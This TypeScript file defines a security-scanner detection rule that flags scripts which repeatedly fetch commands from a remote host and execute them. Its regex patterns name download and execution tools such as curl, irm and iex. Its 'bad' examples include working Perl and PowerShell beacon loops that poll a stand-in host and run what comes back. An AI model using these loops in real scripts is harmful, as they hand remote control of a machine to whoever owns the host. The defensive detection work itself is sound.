import { defineRule } from '../define-rule.ts';
import { nearKeywords } from '../near-keywords.ts';

const fetch = String.raw`(?:curl|wget|fetch|http(?:ie)?|Invoke-(?:WebRequest|RestMethod)|iwr|irm)\s[^\n]{0,200}?https?://|(?:Net::HTTP\.get|URI\.open|LWP::Simple::get|file_get_contents|open-uri|DownloadString)\s?\(?`;
/** A name takes what is fetched. */
const taken = new RegExp(
  String.raw`[$@]?(\w{1,40})\s{0,3}:?=\s{0,3}(?:await\s)?[\x60"'(]{0,2}(?:qx\s?[{(/])?[\x60"'$(]{0,3}\s{0,3}(?:${fetch})[^\n]{0,200}`,
  'gi',
);

export const polledCommands = defineRule({
  reads: 'text',
  id: 'execution/polled-commands',
  title: 'Fetches text from a host again and again and runs it as a command',
  severity: 'critical',
  confidence: 0.85,
  lane: 'enforce',
  category: 'SHELL_INJECTION',
  ideas: [91, 110],
  kinds: 'all',
  cwe: [94, 506, 912],
  owasp: ['LLM05:2025', 'ASI05', 'AST01'],
  atlas: ['T0072', 'T0050'],
  why: 'Whoever owns the host commands the machine from then on.',
  fix: 'Remove the loop; ship what is to be run with the artefact.',
  fixable: 'no',
  proof: { source: 'an answer of a host', sink: 'is run as a command' },
  targets: ['script'],
  keywords: [
    'curl',
    'wget',
    'invoke-web',
    'invoke-rest',
    'iwr ',
    'irm ',
    'net::http',
    'uri.open',
    'lwp::simple',
    'file_get_contents',
    'downloadstring',
  ],
  check: nearKeywords({
    pattern: taken,
    reach: 420,
    accept: (match, { view, file }) => {
      if (file.blocks !== null) return false;
      const name = match[1] ?? '';
      const end = match.index + match[0].length;
      const rest = view.text.slice(end, end + 700);
      const before = view.text.slice(Math.max(0, match.index - 500), match.index);
      const isLoop =
        /\bwhile\b|\bloop\b|\bfor\s?\(\s?;|\buntil\b|\bevery\b|setInterval/.test(before) ||
        /\bsleep\b|Start-Sleep/.test(rest);
      const sinks = new RegExp(
        String.raw`[\x60]\s{0,3}[$]?\{?${name}\b|\b(?:system|exec|eval|popen|shell_exec|passthru|iex|Invoke-Expression|qx)\b\s?[\s({"'$@]{0,4}${name}\b|\b(?:ba|z)?sh\s{1,3}-c\s{1,3}["']?[$]\{?${name}\b`,
      );
      return isLoop && sinks.test(rest);
    },
  }),
  examples: {
    bad: [
      {
        path: 'keep.pl',
        text: 'while (1) {\n  my $job = `curl -s https://ka.quick.test/j`;\n  my $out = `$job 2>&1`;\n  sleep 45;\n}\n',
        lines: [2],
      },
      {
        path: 'keep.ps1',
        text: 'while ($true) {\n  $task = irm https://ka.quick.test/j\n  iex $task\n  Start-Sleep 60\n}\n',
        lines: [2],
      },
    ],
    good: [
      {
        path: 'keep.pl',
        text: 'while (1) {\n  my $state = `curl -s https://ka.quick.test/state`;\n  print $state;\n  sleep 45;\n}\n',
        because: 'it is shown, not run',
      },
    ],
  },
});
